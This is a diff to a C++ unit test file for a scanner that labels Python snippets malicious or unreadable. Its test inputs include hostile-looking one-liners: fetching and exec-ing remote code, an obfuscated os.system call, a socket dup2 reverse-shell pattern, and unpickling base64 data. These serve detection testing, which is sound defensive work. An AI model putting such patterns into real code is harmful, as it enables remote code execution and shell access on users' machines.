@@ -25,6 +25,7 @@ TEST(Python, CallsDecodedCodeMaliciousInAnyFile) {
   EXPECT_EQ(VerdictOf("any.py", "import urllib.request as u\nexec(u.urlopen('http://x').read())\n"), "malicious");
   EXPECT_EQ(VerdictOf("any.py", "getattr(__import__('os'), 'sys' + 'tem')('x')\n"), "malicious");
   EXPECT_EQ(VerdictOf("any.py", "import socket, os\ns = socket.socket()\ns.connect(('x', 1))\nos.dup2(s.fileno(), 0)\n"), "malicious");
+  EXPECT_EQ(VerdictOf("any.py", "import pickle, base64\npickle.loads(base64.b64decode('QQ=='))\n"), "malicious");
 }
 TEST(Python, CallsProgramsWhileALoaderImportsMalicious) {
   EXPECT_EQ(Handler("import os\nos.system('x')\n"), "malicious");
@@ -47,6 +48,8 @@ TEST(Python, DoubtsWhatIsSeldomNeeded) {
 }
 TEST(Python, LeavesOtherProgramsAlone) {
   EXPECT_TRUE(Look("train.py", "import os\nos.system('x')\n").no_model);
+  EXPECT_EQ(VerdictOf("any.py", "import base64\ndef f():\n  x = base64.b64decode(y)\ndef g(x):\n  eval(x)\n"), "unreadable");
+  EXPECT_EQ(VerdictOf("any.py", "import socket, os\ns = socket.socket()\ndef f():\n  os.dup2(1, 2)\n"), "unreadable");
   EXPECT_EQ(VerdictOf("train.py", "import os\nos.system('x')\n"), "unreadable");
 }
 TEST(Python, ReadsHandlersInArchives) {
